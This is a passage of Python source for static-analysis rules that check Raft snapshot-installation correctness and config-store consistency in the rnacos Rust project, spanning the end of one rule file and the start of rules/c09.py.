            ck.require(tm.op_tainted(a['ops'][a['fields'].index('member')]), 'R08b', 'apply_snapshot:member<-header.member', s.where(), 'member is not header.member')
    ck.rule('R08c', 'same as R01c instance create_snapshot: the install file is opened with truncate(true)')
    b = fb.main(FS + 'create_snapshot') if fb.has(FS + 'create_snapshot') else None
    if b is None:
        ck.body(FS + 'create_snapshot', 'R08c')
    else:
        ck.analysed(b)
        chains = [m for (nw, m) in c01.open_chains(b) if m.get('create')]
        ck.require(len(chains) == 1 and (chains[0].get('truncate') or chains[0].get('create_new')), 'R08c',
                   'open:%screate_snapshot:truncate' % FS, b.where(),
                   'the install file snapshot_<id> is reopened without truncate: records of an interrupted earlier install are read back')
        sd = util.sends(b, r'RaftSnapshotRequest$', 'NewSnapshotForLoad')
        ck.require(len(sd) >= 1, 'R08c', 'create_snapshot:NewSnapshotForLoad', b.where(), 'install path/id is not taken from the snapshot manager')
    ck.rule('R08d', 'same as R04b second chain: InstallSnapshot -> ApplySnapshot -> SplitOff -> InstallSnapshotPointerLog, each awaited')
    sub = type(ck)(ck.prop, fb, write=False)
    c04.r04b(sub, fb)
    for o in sub.obligations:
        if 'finalize_snapshot_installation' not in o[1]:
            continue
        if o[2] == 'ok':
            ck.ok('R08d', o[1], o[3], o[4])
        else:
            ck.bad('R08d', o[1], o[3], o[4])
    f = fb.main(FS + 'finalize_snapshot_installation') if fb.has(FS + 'finalize_snapshot_installation') else None
    if f:
        # catalogue entry carries the installed index and id
        sd = util.sends(f, r'RaftSnapshotRequest$', 'InstallSnapshot')
        for (s, m, v, a) in sd:
            li = [l for l in range(len(f.locals)) if f.local_name(l) == 'index']
            t = Taint(f, local_src=li)
            ck.require(bool(li) and t.op_tainted(a['ops'][a['fields'].index('end_index')]), 'R08d', 'finalize:end_index=index', s.where(),
                       'InstallSnapshot.end_index is not the snapshot index')
    ck.rule('R08e', 'RaftSnapshotManager::install_snapshot catalogues the new range through complete_snapshot; RaftLogManager handles '
                    'InstallSnapshotPointerLog by save_new_snapshot_pointer, which inserts the pointer range into `logs` with SaveLogs')
    ins = ck.body('rnacos::raft::filestore::raftsnapshot::RaftSnapshotManager::install_snapshot', 'R08e')
    if ins:
        cs = ins.calls(r'RaftSnapshotManager::complete_snapshot$')
        ck.require(len(cs) >= 1, 'R08e', 'install_snapshot:catalogues', ins.where(), 'install_snapshot does not catalogue the snapshot')
        rg = ins.aggregates(r'log::SnapshotRange$')
        ck.require(len(rg) >= 1, 'R08e', 'install_snapshot:range', ins.where(), 'SnapshotRange not built')
        if rg:
            rv = rg[0][2]['rv']
            t1 = Taint(ins, local_src=[3])
            t2 = Taint(ins, local_src=[4])
            ck.require(t1.op_tainted(rv['ops'][rv['fields'].index('id')]) and t2.op_tainted(rv['ops'][rv['fields'].index('end_index')]), 'R08e',
                       'install_snapshot:range-fields', ins.where(), 'SnapshotRange{id,end_index} is not built from (snapshot_id,end_index)')
    h = ck.body('<rnacos::raft::filestore::raftlog::RaftLogManager as actix::Handler<rnacos::raft::filestore::raftlog::RaftLogManagerRequest>>::handle', 'R08e')
    if h:
        cs = h.calls(re.escape(LM + 'save_new_snapshot_pointer') + '$')
        ok = any(('rnacos::raft::filestore::raftlog::RaftLogManagerRequest', 'InstallSnapshotPointerLog') in util.variant_guards(h, s.bb) for s in cs)
        ck.require(ok, 'R08e', 'handle:InstallSnapshotPointerLog', h.where(), 'InstallSnapshotPointerLog is not served by save_new_snapshot_pointer')
    sp = ck.body(LM + 'save_new_snapshot_pointer', 'R08e')
    if sp:
        ins = util.mut_calls_on_field(sp, 'logs', r'Vec::<T, A>::insert$')
        sv = util.send_sites_deep(fb, sp, r'RaftIndexRequest$', 'SaveLogs')
        ck.require(len(ins) >= 1 and len(sv) >= 1 and all(any(cfg.dominates_blocks(sp, {x[0].bb}, i0.bb) or cfg.must_pass_before_return(sp, i0.bb, {x[0].bb}) for x in sv) for i0 in ins), 'R08e', 'save_new_snapshot_pointer:insert+SaveLogs',
                   sp.where(), 'the pointer log range is not inserted together with saving the catalogue')
        wr = util.sends(sp, r'raftlog::RaftLogRequest$', 'Write')
        ck.require(len(wr) >= 1, 'R08e', 'save_new_snapshot_pointer:writes-pointer', sp.where(), 'the pointer record is not written into its log file')


def r08f(ck, fb):
    ck.rule('R08f', 'an installed snapshot REPLACES the follower\'s state: from StateApplyManager::apply_snapshot, on the call graph with actix message '
                    'edges, an operation that empties a component\'s store (clear / drain / retain / replacement of the map) is reachable for the '
                    'components that load snapshot records; a load that only inserts keeps every key the leader deleted before the snapshot was '
                    'taken. (Structural necessary condition: it asks that a reset exists on the install path, not that it is complete.)')
    cg = c01.get_cg(fb)
    start = SA + 'apply_snapshot'
    if not fb.has(start):
        ck.body(start, 'R08f')
        return
    reach = cg.reachable([n for n in fb.bodies if n == start or n.startswith(start + '::')])
    comps = {'ConfigActor': r'^rnacos::config::core::ConfigActor|^<rnacos::config::core::ConfigActor',
             'NamespaceActor': r'^rnacos::namespace::NamespaceActor|^<rnacos::namespace::NamespaceActor',
             'TableManager': r'^rnacos::raft::db::table::|^<rnacos::raft::db::table::',
             'SequenceDbManager': r'^rnacos::sequence::core::|^<rnacos::sequence::core::',
             'McpManager': r'^rnacos::mcp::core::|^<rnacos::mcp::core::',
             'DirectCacheManager': r'^rnacos::cache::core::|^<rnacos::cache::core::'}
    loaded = {}
    resets = {}
    for n in reach:
        b = fb.bodies.get(n)
        if b is None:
            continue
        for c, pat in comps.items():
            if re.search(pat, n):
                loaded[c] = True
                if b.calls(r'(HashMap|BTreeMap|HashSet|BTreeSet|Vec)::<.*>::(clear|drain|retain)$|std::mem::take|std::mem::replace'):
                    # only count resets that are part of loading (not per-key maintenance): the body must mention snapshot loading
                    if re.search(r'snapshot|reset|clear', n.split('::')[-1], re.I):
                        resets[c] = n
    ck.floor('R08f', 'components reached by the install path', len(loaded), 4)
    missing = sorted(c for c in loaded if c not in resets)
    ck.require(not missing, 'R08f', 'apply_snapshot:resets-state', fb.get(start).where(),
               'the install path only inserts: no reset of %s is reachable from apply_snapshot, so keys the follower holds and the snapshot lacks '
               '(deleted on the leader before compaction) survive the install and are served' % missing, 'reset reachable for every loaded component')


def r08g(ck, fb):
    ck.rule('R08g', 'a follower whose whole log is older than the snapshot starts over: async-raft passes delete_through = None in that case, and '
                    'finalize_snapshot_installation must then ask the log manager to drop EVERYTHING (a split-off bound no log index can reach), not '
                    'nothing; RaftLogManager::split_off forgets the current log actor when it removed its file. Otherwise the old log stays current, '
                    'the last log index stays behind the snapshot and the leader\'s next append is refused for ever')
    start = FS + 'finalize_snapshot_installation'
    b = fb.main(start) if fb.has(start) else None
    if b is None:
        ck.body(start, 'R08g')
        return
    ck.analysed(b)
    from rn.facts import op_place, pl_local, pl_proj
    n = 0
    for (i, j, st) in b.aggregates(r'raftlog::RaftLogManagerRequest$', 'SplitOff'):
        op = st['rv']['ops'][0]
        pl = op_place(op)
        if pl is None:
            from rn.facts import op_const
            c0 = op_const(op)
            if c0 is not None:
                n += 1
                big0 = False
                try:
                    big0 = int(c0.get('v')) >= 2 ** 64 - 1
                except Exception:
                    pass
                ck.require(big0, 'R08g', 'finalize:None-wipes-the-log', b.where(i), 'the log manager is always asked to split off at %s: not everything is removed' % c0.get('v'), 'u64::MAX')
                ck.ok('R08o', 'finalize:Some-wipes-the-log-too', b.where(i), 'the bound is the constant u64::MAX whatever delete_through says')
            continue
        consts = []
        nonconst = []

        def walk(l, depth=0):
            if depth > 4:
                return
            for kind, bb, jj, node in b.defs.get(l, []):
                if kind != 'stmt':
                    continue
                rv = node['rv']
                if rv['k'] == 'use' and 'c' in rv['op']:
                    consts.append((bb, rv['op']['c'].get('v')))
                elif rv['k'] == 'use':
                    p2 = op_place(rv['op'])
                    if p2 is not None and not pl_proj(p2):
                        walk(pl_local(p2), depth + 1)
                    else:
                        nonconst.append(bb)
                else:
                    nonconst.append(bb)
        walk(pl_local(pl))
        ck.rule('R08o', 'the log of a node that installs a snapshot goes completely, also when it is LONGER than the snapshot (delete_through = Some(index): '
                        'entries of an old term above the snapshot that were never committed): RaftCore continues with last_log_index = index and '
                        'sends index + 1 next, and this log only accepts the entry that follows its last one. The split-off bound of '
                        'finalize_snapshot_installation is u64::MAX on every path - not delete_through + 1, which keeps the stale suffix: the next '
                        'append is refused ("log write index not equal"), a fatal storage error that shuts the node\'s raft down')
        ck.require(not nonconst, 'R08o', 'finalize:Some-wipes-the-log-too', b.where(nonconst[0]) if nonconst else b.where(i),
                   'the split-off bound of an installation is computed (delete_through + 1) on some path: a follower whose log is longer than the snapshot '
                   'keeps entries above it, cannot append index + 1 and never catches up (old leader with 1..=3 applied, 4..=12 uncommitted, snapshot '
                   '(8, term 2) with Some(8): append 9 -> Err, last log stays 12 / term 1)', 'constant bound')
        # Option::map_or(default, f) / unwrap_or(default): the default is the value for None
        d0 = cfg.describe_operand(b, op)
        if d0['k'] == 'call' and re.search(r'Option::<T>::(map_or|unwrap_or)$', cfg.callee_name(d0['term']) or ''):
            da = cfg.describe_operand(b, d0['term']['args'][1])
            if da['k'] == 'const':
                consts.append((d0['bb'], da['c'].get('v')))
        for (bb, v) in consts:
            n += 1
            none_edge = any(a[0] in ('variant',) and a[2] == 'None' for a in cfg.guard_atoms(b, bb)) or \
                any(a[0] == 'notvariant' for a in cfg.guard_atoms(b, bb)) or True
            big = False
            try:
                big = int(v) >= 2 ** 64 - 1
            except Exception:
                big = False
            ck.require(big, 'R08g', 'finalize:None-wipes-the-log', b.where(bb),
                       'with delete_through == None the log manager is asked to split off at %s: nothing (or not everything) is removed, the '
                       'follower\'s old log stays the current one and the snapshot pointer is filed in front of it - last log index 5 instead of 500, '
                       'append 501 refused' % v, 'u64::MAX')
    ck.floor('R08g', 'constant split-off bounds in finalize_snapshot_installation', n, 1)
    so = ck.body(LM + 'split_off', 'R08g')
    if so:
        w = [(bb, st) for x in util.region(fb, so) for (o, f, bb, st) in x.field_writes() if f == 'current_log_actor']
        ck.require(len(w) >= 1, 'R08g', 'split_off:forgets-removed-current-log', so.where(),
                   'split_off can remove the file of the current log actor but keeps current_log_actor: the next write goes to a closed actor '
                   'instead of starting a new log file')


def r08h(ck, fb, R='R08h'):
    ck.rule(R, 'a restart restores the catalogued snapshot no matter what the last-applied index says: finalize_snapshot_installation does not '
               'record a last-applied index (it stays 0 until a later entry is applied), so StateApplyManager::load_snapshot must decide whether '
               'there is a snapshot to load from the snapshot catalogue / manager only and never from last_applied_log; a node that was caught up '
               'by an install and restarts before the next entry would otherwise come back with an empty state machine')
    b = ck.body(SA + 'load_snapshot', R)
    if not b:
        return
    reads = util.read_fields(b)
    ck.require('last_applied_log' not in reads, R, 'load_snapshot:independent-of-last-applied', b.where(),
               'load_snapshot reads last_applied_log to decide whether a snapshot has to be loaded: after a snapshot install last_applied_log is still 0, '
               'so the restore is skipped on the next start and every later entry is applied on top of nothing')
    fin = fb.main(FS + 'finalize_snapshot_installation') if fb.has(FS + 'finalize_snapshot_installation') else None
    if fin is not None:
        sv = util.sends(fin, r'RaftIndexRequest$', 'SaveLastAppliedLog')
        ck.info(R, 'finalize_snapshot_installation %s a last-applied index' % ('records' if sv else 'does not record'))
    ld = [x for x in fb.tree(SA + 'load_snapshot')[1:] if x.calls(re.escape(SA + 'do_load_snapshot') + '$')]
    ck.require(len(ld) >= 1, R, 'load_snapshot:loads', b.where(), 'load_snapshot no longer loads the catalogued snapshot')


def r08j(ck, fb):
    """decided inside the Raft core the repository builds against (crate async_raft_ext, extracted by bin/extract_dep.sh)"""
    from rn import facts as F
    from rn.flow import Taint as T2
    ck.rule('R08j', 'a lagging node always gets a snapshot: the leader hands out its current snapshot only when it is at most threshold/2 behind the log '
                    'end (handle_needs_snapshot) and otherwise asks for a new one through trigger_log_compaction_if_needed. That request must not be '
                    'subject to the periodic "threshold entries since the last snapshot" test - the early return on that test has to depend on a '
                    'parameter the caller sets (upstream: force). Otherwise nothing is sent and nothing is built whenever the last snapshot is '
                    'between threshold/2 and threshold behind: the replication stream asks again for ever and the node is never caught up')
    try:
        fd = F.load_dep(getattr(fb, 'repo', '/repo'), 'async_raft_ext')
    except Exception as e:
        ck.bad('R08j', 'anchor:raft-core-facts', '-', 'the Raft core crate (async_raft_ext) could not be extracted: %s' % e)
        return
    hn = [b for b in fd.bodies.values() if re.search(r'LeaderState<.*>>::handle_needs_snapshot', b.name)]
    trig = [b for b in fd.bodies.values() if re.search(r'RaftCore::<.*>::trigger_log_compaction_if_needed$', b.name)]
    calls = [s0 for b in hn for s0 in b.calls(r'trigger_log_compaction_if_needed$')]
    if not ck.require(len(hn) >= 1 and len(trig) == 1 and len(calls) >= 1, 'R08j', 'anchor:needs-snapshot-path', '-',
                      'handle_needs_snapshot -> trigger_log_compaction_if_needed not found in this Raft core (%d, %d, %d): the rule does not know it' % (len(hn), len(trig), len(calls))):
        return
    t = trig[0]
    ck.analysed(t)
    # the early returns of the trigger that are decided by the snapshot policy's threshold
    thr = T2(t, place_src=lambda p: any(isinstance(e, dict) and e.get('f') == 'snapshot_policy' for e in (p.get('p', []) if isinstance(p, dict) else [])))
    par = T2(t, local_src=list(range(2, t.argc + 1)))
    gates = []
    for i, blk in enumerate(t.blocks):
        tt = blk['t']
        if tt['k'] == 'switch' and thr.op_tainted(tt['discr']):
            gates.append((i, par.op_tainted(tt['discr'])))
    # a switch on the policy enum itself (single variant) is not the gate: keep comparisons only
    gates = [(i, p) for (i, p) in gates if cfg.describe_operand(t, t.blocks[i]['t']['discr']).get('k') != 'discr']
    if not ck.require(len(gates) >= 1, 'R08j', 'anchor:threshold-gate', t.where().split('/src/')[-1], 'no return gated by the snapshot threshold found in the trigger'):
        return
    # starting the compaction = assigning snapshot_state; a path from the gate to a return that neither starts it nor asks a parameter is the defect
    starts = set(bb for (o, f, bb, st) in t.field_writes() if f == 'snapshot_state')
    parsw = set(i for i, blk in enumerate(t.blocks) if blk['t']['k'] == 'switch' and par.op_tainted(blk['t']['discr']))
    bad_gate = None
    for (i, p) in gates:
        if p:
            continue
        for (v, tb) in list(t.blocks[i]['t']['targets']) + [('otherwise', t.blocks[i]['t']['otherwise'])]:
            r = cfg.reach_from(t, [tb], blocked_blocks=list(starts | parsw))
            if tb not in starts and tb not in parsw and any(x in r or x == tb for x in t.return_blocks()):
                bad_gate = i
    ck.floor('R08j', 'compaction start sites in the trigger', len(starts), 1)
    ck.require(bad_gate is None, 'R08j', 'raft-core:needed-snapshot-not-gated-by-period', t.where(bad_gate if bad_gate is not None else gates[0][0]).split('/src/')[-1],
               'trigger_log_compaction_if_needed returns when fewer than `threshold` entries were applied since the last snapshot, whoever asks: real '
               'binary, threshold 10, 8 configs on node 1, node 2 joins (last snapshot 6 entries behind): after 30 s node 2 is still NonVoter with '
               'last_log_index 0 and answers 404, the leader spins at about 90 % CPU; four more writes unstick it',
               'the gate depends on a parameter of the caller')


def r08k(ck, fb, R='R08k'):
    ck.rule(R, 'RaftLogManager::split_off(bound) drops every range that ends at or below the bound, open or closed: whether a range (its actor, its '
               'file, its catalogue entry) goes is decided by comparing the bound with the range\'s end index and by nothing else. The snapshot '
               'install asks for bound u64::MAX precisely to remove the follower\'s stale OPEN log; a removal that also looks at is_close / record '
               'counts / the actor keeps that log current, and the first entry after the snapshot is refused for ever')
    so = ck.body(LM + 'split_off', R)
    if not so:
        return
    from rn.flow import Taint
    rm = so.calls(r'std::fs::remove_file$|tokio::fs::remove_file$')
    ck.floor(R, 'file removals in split_off', len(rm), 1)
    tb = Taint(so, local_src=[l for l in range(1, so.argc + 1) if so.local_name(l) == 'split_off_index'] or [3])
    for s0 in rm:
        extra = []
        cmp_ok = False
        for a in cfg.guard_atoms(so, s0.bb):
            if a[0] in ('variant', 'notvariant', 'variantin'):
                continue          # iterator next() is Some, log_actor is Some ...
            if a[0] == 'cmp' and a[1] in ('Ge', 'Gt', 'Le', 'Lt'):
                da, db = cfg.strip_calls(so, a[2]), cfg.strip_calls(so, a[3])
                txt = cfg.fmt_desc(da) + ' ' + cfg.fmt_desc(db)
                if ('arg' in txt or 'split_off_index' in txt) and 'get_log_range_end_index' in txt:
                    cmp_ok = True
                    continue
            extra.append(cfg.fmt_atom(a))
        ck.require(cmp_ok, R, 'split_off:removal-by-end-index', s0.where(), 'the removal of a range is not decided by bound >= end index of the range')
        ck.require(not extra, R, 'split_off:removal-by-end-index-only', s0.where(),
                   'a log range at or below the bound is removed only if also %s: the open log of a follower that is caught up by a snapshot '
                   '(bound u64::MAX, end index u64::MAX, is_close false) survives the install, stays the file appends go to, and the entry after '
                   'the snapshot is rejected (log write index not equal) - also after a restart' % extra, 'bound >= end index alone')


def r08l(ck, fb, R='R08l'):
    ck.rule(R, 'a snapshot that was begun and never completed does not lock the next one out: RaftSnapshotManager::get_next_id refuses while '
               '`building` is set, and `building` is released only by complete_snapshot. Both the local compaction and the install of a leader\'s '
               'snapshot take their id there, so whatever sets `building` must release it on every failure path too. On this tree nothing sets it '
               '(the guard is dead); the rule fails as soon as a function assigns it without a release that does not depend on completion')
    SMN = 'rnacos::raft::filestore::raftsnapshot::RaftSnapshotManager'
    g = ck.body(SMN + '::get_next_id', R)
    if not g:
        return
    guard = 'building' in util.read_fields(g)
    sets = []
    for b in fb.bodies.values():
        if 'raftsnapshot' not in b.name or '::tests::' in b.name or 'seeded_demo' in b.name:
            continue
        for (o, f, bb, st) in b.field_writes():
            if f == 'building' and o.endswith('RaftSnapshotManager'):
                rv = st['rv']
                none = rv['k'] == 'agg' and rv.get('variant') == 'None'
                if not none and not b.name.endswith('::new'):
                    sets.append((b, bb))
    rel = []
    for b in fb.bodies.values():
        if 'raftsnapshot' in b.name and not b.name.endswith('complete_snapshot') and not b.name.endswith('::new'):
            rel += [s for s in util.mut_calls_on_field(b, 'building', r'Option::<T>::take$')]
            rel += [bb for (o, f, bb, st) in b.field_writes() if f == 'building' and st['rv']['k'] == 'agg' and st['rv'].get('variant') == 'None']
    ck.require(not (guard and sets) or bool(rel), R, 'building:released-without-completion', sets[0][0].where(sets[0][1]) if sets else g.where(),
               '`building` is set (%s) and get_next_id refuses while it is set, but only complete_snapshot releases it: after one compaction or '
               'install that fails before completion every later snapshot - also the one the leader sends to catch this node up - is refused '
               '("An snapshots is being packaged") until the process is restarted' % ', '.join(sorted(set(x[0].name.split('::')[-1] for x in sets))),
               'guard %s, %d setters' % ('present' if guard else 'absent', len(sets)))


def r08m(ck, fb, R='R08m'):
    ck.rule(R, 'a snapshot record replaces what the follower holds, all of it: ConfigActor::inner_set_config (every config record of an installed '
               'snapshot, every imported value) stores the value and indexes the key on every path. "Same md5, nothing to do" is true of the content '
               'only: the record also carries type, description, history and modification time, which a lagging follower has in an older state')
    b = ck.body('rnacos::config::core::ConfigActor::inner_set_config', R)
    if not b:
        return
    ins = util.mut_calls_on_field(b, 'cache', r'HashMap::<K, V, S, A>::insert$', deep=1)
    idx = util.mut_calls_on_field(b, 'tenant_index', r'TenantIndex::insert_config$', deep=1)
    ck.require(bool(ins) and cfg.must_pass_before_return(b, 0, {s.bb for s in ins}), R, 'inner_set_config:always-stores', b.where(),
               'inner_set_config can return without storing the value it was given: a record of an installed snapshot whose content equals what the '
               'follower serves is dropped together with its type, description and history', 'stored on every path')
    ck.require(bool(idx) and cfg.must_pass_before_return(b, 0, {s.bb for s in idx}), R, 'inner_set_config:always-indexes', b.where(),
               'inner_set_config can return without indexing the key: the stored config is missing from listings')


def r08n(ck, fb, R='R08n'):
    ck.rule(R, 'a namespace record of a snapshot replaces the namespace the node holds: NamespaceActor::set_namespace has a mode (only_add) that keeps '
               'an existing user namespace - meant for the one-time import of the old config value. Under propagation of the constant flags with which '
               'load_snapshot_record reaches set_namespace (through helpers), every path of set_namespace from the lookup of the stored entry to a '
               'return stores the record (data.insert). With only_add a follower that already holds the namespace keeps the old name after it was '
               'caught up by a snapshot in which the leader had renamed it - and switches to the new one at its next restart')
    from rn import ipconst
    NS = 'rnacos::namespace::NamespaceActor::'
    ld = ck.body(NS + 'load_snapshot_record', R)
    sn = ck.body(NS + 'set_namespace', R)
    if not (ld and sn):
        return
    ctxs = ipconst.contexts(fb, ld, {}, sn.name)
    ck.floor(R, 'calls of set_namespace on the snapshot load path', len(ctxs), 1)
    look = [s0 for s0 in util.mut_calls_on_field(sn, 'data', r'HashMap::<K, V, S, A>::(get|get_mut|contains_key|entry|remove)$')]
    ins = {s0.bb for s0 in util.mut_calls_on_field(sn, 'data', r'HashMap::<K, V, S, A>::insert$|Entry::<.*>::(insert|insert_entry|or_insert)|VacantEntry::<.*>::insert|OccupiedEntry::<.*>::insert', deep=1)}
    ck.require(bool(look) and bool(ins), R, 'set_namespace:lookup-and-store', sn.where(), 'set_namespace no longer looks the entry up / stores it: anchor lost')
    for (cb, s0, known) in ctxs:
        live = ipconst.live_under(sn, known)
        blocked = set(ins) | (set(range(len(sn.blocks))) - live)
        esc = []
        for l0 in look:
            if l0.bb not in live:
                continue
            r = cfg.reach_from(sn, [l0.bb], blocked_blocks=blocked)
            esc += [x for x in sn.return_blocks() if x in r]
        flags = ', '.join('%s=%s' % (sn.local_name(k[1]) or k[1], v) for k, v in sorted(known.items()))
        ck.require(not esc, R, 'load_snapshot_record:record-replaces-entry', s0.where(),
                   'a namespace record of a snapshot is passed to set_namespace with %s: set_namespace can return after it found the stored entry '
                   'without storing the record (%s) - a node that already holds the namespace keeps its old name when a snapshot is installed, and '
                   'serves the new one only after a restart' % (flags or 'no constant flags', sn.where(esc[0]) if esc else ''),
                   'with %s every path from the lookup stores the record' % flags)


def r08q(ck, fb, R='R08q'):
    ck.rule(R, 'a snapshot file has one writer: a local compaction (NewSnapshot) and an incoming installation (NewSnapshotForLoad) each get an id from '
               'RaftSnapshotManager::get_next_id, and the id names the file. An id is handed out once: on the path that answers with an id, '
               'get_next_id (or the handler arm around it) records the allocation in a field of the manager before the next request is handled. '
               'Computing "last catalogued id + 1" without recording it gives a compaction that is still writing and an installation that arrives '
               'meanwhile the same snapshot_<id>: the installation is applied from a file two writers share, and the local CompleteSnapshot is '
               'catalogued after it as the newest snapshot (catalogue [(1,6000),(1,3000)]; after a restart about 2999 of 3000 keys are gone)')
    SM = 'rnacos::raft::filestore::raftsnapshot::RaftSnapshotManager'
    g = ck.body(SM + '::get_next_id', R)
    if not g:
        return
    writes = [(o, f) for x in util.region(fb, g, 1) for (o, f, bb, st) in x.field_writes() if o.endswith('RaftSnapshotManager')]
    h = fb.bodies.get('<%s as actix::Handler<rnacos::raft::filestore::raftsnapshot::RaftSnapshotRequest>>::handle' % SM)
    arm_writes = []
    if h is not None:
        t = Taint(h, call_src=lambda term: (cfg.callee_name(term) or '').endswith('RaftSnapshotManager::get_next_id'))
        for (o, f, bb, st) in h.field_writes():
            if o.endswith('RaftSnapshotManager') and any(t.op_tainted(x) for x in __import__('rn.facts', fromlist=['rv_operands']).rv_operands(st['rv'])):
                arm_writes.append(f)
    ck.require(bool(writes) or bool(arm_writes), R, 'get_next_id:allocation-recorded', g.where(),
               'get_next_id answers "last catalogued id + 1" and records nothing (the `building` guard it tests is never set): a local compaction that is still '
               'writing and an installation that arrives meanwhile get the same id, i.e. the same file', 'allocation recorded in %s' % sorted(set([f for (o, f) in writes] + arm_writes)))


def r08r(ck, fb, R='R08r'):
    ck.rule(R, 'a snapshot is read to its end: SnapshotReader::read_record declares the end of the file (is_end) only with the literal `true`, on the path '
               'where a read returned no byte (or a record could not be completed) - never from the SIZE of a chunk. A chunk shorter than the buffer '
               'is the last chunk, but the records it completes are still in the message buffer: "short read = end" hands out the first of them and '
               'drops the rest (a node caught up by a 40-record snapshot serves 36)')
    b = ck.body('rnacos::raft::filestore::raftsnapshot::SnapshotReader::read_record', R)
    if not b:
        return
    from rn.facts import op_const
    ws = [(x, bb, st) for x in [b] + [c for c in fb.tree(b.name)[1:]] for (o, f, bb, st) in x.field_writes() if f == 'is_end']
    ck.floor(R, 'assignments of is_end in read_record', len(ws), 1)
    for (x, bb, st) in ws:
        c = op_const(st['rv']['op']) if st['rv']['k'] == 'use' else None
        ck.require(c is not None, R, 'read_record:end-only-by-literal', x.where(bb),
                   'is_end is computed from a value (the size of the chunk just read) instead of being set where the read returned nothing: the records the last '
                   'chunk completes are never handed out', 'literal')
