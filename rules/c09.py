"""C09 Config store: last write wins, md5 matches content, listings match store."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands, op_const

CA = 'rnacos::config::core::ConfigActor::'
CV = 'rnacos::config::core::ConfigValue::'
CK = 'rnacos::config::core::ConfigKey'
CMD_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigCmd>>::handle'


def md5_ok(b, op, content_pred=None):
    """operand is derived from get_md5(...)"""
    t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('utils::get_md5'))
    return t.op_tainted(op)


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "a read returns the last publish with the md5 of its content, and listings mirror the store": '
        '(a) the value map and the tenant/group/dataId index are updated together (insert<->insert_config, remove<->remove_config) in every '
        'ConfigActor mutator, listed exception set_tmp_config; (b) every function that assigns ConfigValue.content also assigns md5, and '
        'every md5 value is derived from get_md5 (of the same content, or of the value passed down by set_config, which itself computes '
        'get_md5(param.value)); (c) the unchanged-content early return is guarded by !tmp && md5 equal and precedes every notification; '
        '(d) the history is bounded: push is preceded by the len() >= 100 guard whose true edge removes index 0; (e) ConfigKey::build_key '
        'and From<&str> use the same separator and the tenant-empty rule; (f) GET answers content, md5, type and description of the same '
        'stored value; (g) the index keeps its size counter in step with set membership.')
    ck.undecided = 'Does not decide page totals/ordering of listings or history order for arbitrary operation sequences.'
    r09a(ck, fb)
    r09b(ck, fb)
    r09c(ck, fb)
    r09d(ck, fb)
    r09e(ck, fb)
    r09f(ck, fb)
    r09g(ck, fb)
    r09h(ck, fb)
    r09i(ck, fb)
    r09j(ck, fb)
    r09k(ck, fb)
    r09l(ck, fb)
    r09m(ck, fb)
    r09n(ck, fb)
    r09o(ck, fb)
    r09q(ck, fb)
    r09r(ck, fb)


PAIR_EXCEPTIONS = {
    CA + 'set_tmp_config': 'temporary value of a routed write on a follower: listed only once the replicated publish arrives '
                           '(set_config inserts into the index when histories is empty)',
}


def r09a(ck, fb):
    ck.rule('R09a', 'in impl ConfigActor every cache.insert is paired with tenant_index.insert_config and every cache.remove with '
                    'tenant_index.remove_config in the same function; exception set_tmp_config; set_config additionally indexes an '
                    'existing temporary value when its history is empty')
    n = 0
    for b in fb.find('^' + re.escape(CA)):
        if b.parent:
            continue
        ins = util.mut_calls_on_field(b, 'cache', r'HashMap::<K, V, S, A>::insert$')
        rem = util.mut_calls_on_field(b, 'cache', r'HashMap::<K, V, S, A>::remove$')
        if not ins and not rem:
            continue
        ck.analysed(b)
        n += 1
        if b.name in PAIR_EXCEPTIONS:
            ck.ok('R09a', b.name + ':exception', b.where(), PAIR_EXCEPTIONS[b.name])
            continue
        ii = util.mut_calls_on_field(b, 'tenant_index', r'TenantIndex::insert_config$', deep=1)
        ri = util.mut_calls_on_field(b, 'tenant_index', r'TenantIndex::remove_config$', deep=1)
        for s in ins:
            ok = any(cfg.dominates_blocks(b, {x.bb}, s.bb) or cfg.must_pass_before_return(b, s.bb, {x.bb}) for x in ii)
            ck.require(ok, 'R09a', '%s:insert<->insert_config' % b.name, s.where(),
                       'a configuration is stored without being added to the tenant/group/dataId index: it can be read by key but never appears in listings')
        for s in rem:
            ok = any(cfg.dominates_blocks(b, {x.bb}, s.bb) or cfg.must_pass_before_return(b, s.bb, {x.bb}) for x in ri)
            ck.require(ok, 'R09a', '%s:remove<->remove_config' % b.name, s.where(),
                       'a configuration is removed from the store but stays in the listing index')
    ck.floor('R09a', 'ConfigActor functions mutating cache', n, 4)
    sc = ck.body(CA + 'set_config', 'R09a')
    if sc:
        # the existing-value branch indexes when histories is empty
        ii = util.mut_calls_on_field(sc, 'tenant_index', r'TenantIndex::insert_config$')
        ok = False
        for s in ii:
            for a in cfg.guard_atoms(sc, s.bb):
                if a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is True:
                    d = cfg.strip_calls(sc, cfg.describe_operand(sc, a[3]['args'][0]))
                    if d['k'] == 'place' and d['fields'][-1:] == ['histories']:
                        ok = True
        ck.require(ok, 'R09a', 'set_config:index-tmp-on-first-real-write', sc.where(),
                   'a key that only had a temporary value is not indexed when its first replicated publish arrives')


def r09b(ck, fb):
    ck.rule('R09b', 'md5 provenance: every function assigning ConfigValue.content (or building a ConfigValue) also sets md5 from get_md5 or '
                    'from its md5 parameter; callers that pass Some(md5) pass get_md5 of the same value they pass as content')
    n = 0
    for b in fb.bodies.values():
        if '::tests::' in b.name:
            continue
        writes = [(f, bb, st) for (o, f, bb, st) in b.field_writes() if o.endswith('config::core::ConfigValue') and f in ('content', 'md5')]
        aggs = b.aggregates(r'config::core::ConfigValue$')
        if not writes and not aggs:
            continue
        ck.analysed(b)
        n += 1
        wf = set(f for (f, bb, st) in writes)
        if 'content' in wf:
            ck.require('md5' in wf, 'R09b', '%s:content-without-md5' % b.name, b.where(), '%s assigns ConfigValue.content but not md5: readers get a stale md5' % b.name)
        params = list(range(1, b.argc + 1))
        for (f, bb, st) in writes:
            if f == 'md5':
                ops = rv_operands(st['rv'])
                tp = Taint(b, local_src=[l for l in params if b.local_name(l) == 'md5'])
                ck.require(any(md5_ok(b, o) or tp.op_tainted(o) for o in ops), 'R09b', '%s:md5<-get_md5' % b.name, b.where(bb),
                           'ConfigValue.md5 is assigned a value that is neither get_md5(..) nor the md5 parameter')
        for (i, j, st) in aggs:
            rv = st['rv']
            o = rv['ops'][rv['fields'].index('md5')]
